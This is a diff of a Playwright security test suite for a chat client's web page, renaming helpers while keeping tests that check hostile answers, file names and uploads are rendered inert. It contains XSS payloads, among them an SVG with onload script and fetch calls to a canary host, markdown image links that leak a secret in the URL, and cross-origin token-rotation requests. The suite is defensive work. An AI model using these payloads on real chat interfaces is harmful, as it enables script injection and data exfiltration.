@@ -9,8 +9,8 @@ from collections.abc import Iterator
 import pytest
 from playwright.sync_api import expect
 
-from browser.desk import Desk
-from browser.samples import carried, picture
+from browser.client import Client
+from browser.samples import draw_image, file_payload
 
 SCRIPTED = b"""<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="window.hacked=1">
 <script>window.hacked=1; fetch("CANARY/svg")</script><image href="CANARY/image.png" width="9" height="9"/>
@@ -45,13 +45,13 @@ def canary() -> Iterator[tuple[str, list[str]]]:
         thread.join()
 
 
-def untouched(desk: Desk, heard: list[str]) -> None:
-    assert desk.page.evaluate("window.hacked") is None
+def untouched(client: Client, heard: list[str]) -> None:
+    assert client.page.evaluate("window.hacked") is None
     assert heard == []
-    assert desk.foreign == []
+    assert client.foreign == []
 
 
-def test_31_hostile_markdown_and_html_in_an_answer_do_nothing(desk: Desk, canary: tuple[str, list[str]]) -> None:
+def test_31_hostile_markdown_and_html_in_an_answer_do_nothing(client: Client, canary: tuple[str, list[str]]) -> None:
     address, heard = canary
     lines = [
         f"![secret]({address}/leak.png?q=secret)",
@@ -63,7 +63,7 @@ def test_31_hostile_markdown_and_html_in_an_answer_do_nothing(desk: Desk, canary
         "<form action=/v1/logout><button>b</button>",
         f"[ok]({address}/followed) <https://example.org>",
     ]
-    answer = desk.say_and_hear("\n".join(f"!echo {line}" for line in lines))
+    answer = client.send_and_wait("\n".join(f"!echo {line}" for line in lines))
     expect(answer).to_contain_text("onerror")
     assert (
         answer.locator("script, iframe, style, form, details:not(.fold), .prose img, [onerror], [ontoggle]").count()
@@ -72,43 +72,43 @@ def test_31_hostile_markdown_and_html_in_an_answer_do_nothing(desk: Desk, canary
     links = answer.locator(".prose a")
     assert all(url.startswith(("http://", "https://")) for url in links.evaluate_all("(all) => all.map((a) => a.href)"))
     assert links.evaluate_all("(all) => all.every((a) => a.target === '_blank' && a.rel.includes('noopener'))")
-    untouched(desk, heard)
+    untouched(client, heard)
 
 
-def test_31_a_file_name_with_markup_is_a_name(desk: Desk, canary: tuple[str, list[str]]) -> None:
-    desk.paste_files(carried(NAMED, picture("named")))
-    expect(desk.attachments).to_contain_text(NAMED)
-    desk.say_and_hear("Look at it")
-    expect(desk.asked.last).to_contain_text(NAMED)
-    desk.page.keyboard.press("Control+k")
-    expect(desk.page.get_by_role("dialog", name="Search")).to_be_visible()
-    untouched(desk, canary[1])
+def test_31_a_file_name_with_markup_is_a_name(client: Client, canary: tuple[str, list[str]]) -> None:
+    client.paste_files(file_payload(NAMED, draw_image("named")))
+    expect(client.attachments).to_contain_text(NAMED)
+    client.send_and_wait("Look at it")
+    expect(client.user_messages.last).to_contain_text(NAMED)
+    client.page.keyboard.press("Control+k")
+    expect(client.page.get_by_role("dialog", name="Search")).to_be_visible()
+    untouched(client, canary[1])
 
 
 @pytest.mark.parametrize(
     ("name", "media_type", "data"), [("a.svg", "image/svg+xml", SCRIPTED), ("a.html", "text/html", PAGE)]
 )
 def test_30_a_hostile_file_runs_nowhere(
-    desk: Desk, canary: tuple[str, list[str]], name: str, media_type: str, data: bytes
+    client: Client, canary: tuple[str, list[str]], name: str, media_type: str, data: bytes
 ) -> None:
     address, heard = canary
-    desk.paste_files(carried(name, data.replace(b"CANARY", address.encode()), media_type))
-    expect(desk.attachments).to_have_count(1)
-    expect(desk.page.locator("progress")).to_have_count(0)
-    if desk.send_button.is_enabled():
-        desk.say_and_hear("What is this?")
-    digests = desk.page.evaluate("[...document.images].map((i) => i.src).filter((s) => s.includes('/v1/media/'))")
+    client.paste_files(file_payload(name, data.replace(b"CANARY", address.encode()), media_type))
+    expect(client.attachments).to_have_count(1)
+    expect(client.page.locator("progress")).to_have_count(0)
+    if client.send_button.is_enabled():
+        client.send_and_wait("What is this?")
+    digests = client.page.evaluate("[...document.images].map((i) => i.src).filter((s) => s.includes('/v1/media/'))")
     for url in dict.fromkeys(url.partition("?")[0] for url in digests):
-        answer = desk.page.request.get(f"{url}?v=full")
+        answer = client.page.request.get(f"{url}?v=full")
         assert answer.headers["x-content-type-options"] == "nosniff"
         assert "sandbox" in answer.headers["content-security-policy"]
-    untouched(desk, heard)
+    untouched(client, heard)
 
 
-def test_5_another_origin_can_change_nothing(desk: Desk, canary: tuple[str, list[str]]) -> None:
+def test_5_another_origin_can_change_nothing(client: Client, canary: tuple[str, list[str]]) -> None:
     address, _ = canary
-    before = desk.daemon.ask("/v1/sessions")["sessions"]
-    other = desk.page.context.new_page()
+    before = client.daemon.ask("/v1/sessions")["sessions"]
+    other = client.page.context.new_page()
     other.goto(address)
     sent = other.evaluate(
         """async (url) => {
@@ -118,22 +118,22 @@ def test_5_another_origin_can_change_nothing(desk: Desk, canary: tuple[str, list
           await send('/v1/token/rotate', {});
           return fetch(url + '/v1/sessions', { credentials: 'include' }).then((r) => r.status, () => 'refused');
         }""",
-        desk.daemon.url,
+        client.daemon.url,
     )
     assert sent in ("refused", 401, 403)
-    assert desk.daemon.ask("/v1/sessions")["sessions"] == before
+    assert client.daemon.ask("/v1/sessions")["sessions"] == before
 
 
-def test_6_the_token_is_nowhere_on_the_page(desk: Desk) -> None:
-    token = (desk.daemon.home / "state" / "token").read_text().strip()
-    assert token not in desk.page.content()
-    assert token not in desk.page.evaluate("JSON.stringify(localStorage) + document.cookie + location.href")
-    assert not any(token in url for url in desk.requests)
+def test_6_the_token_is_nowhere_on_the_page(client: Client) -> None:
+    token = (client.daemon.home / "state" / "token").read_text().strip()
+    assert token not in client.page.content()
+    assert token not in client.page.evaluate("JSON.stringify(localStorage) + document.cookie + location.href")
+    assert not any(token in url for url in client.requests)
 
 
-def test_the_page_may_fetch_from_nowhere_else(desk: Desk, canary: tuple[str, list[str]]) -> None:
+def test_the_page_may_fetch_from_nowhere_else(client: Client, canary: tuple[str, list[str]]) -> None:
     address, heard = canary
-    refused = desk.page.evaluate(
+    refused = client.page.evaluate(
         "(url) => fetch(url + '/x', { mode: 'no-cors' }).then(() => false, () => true)", address
     )
     assert refused
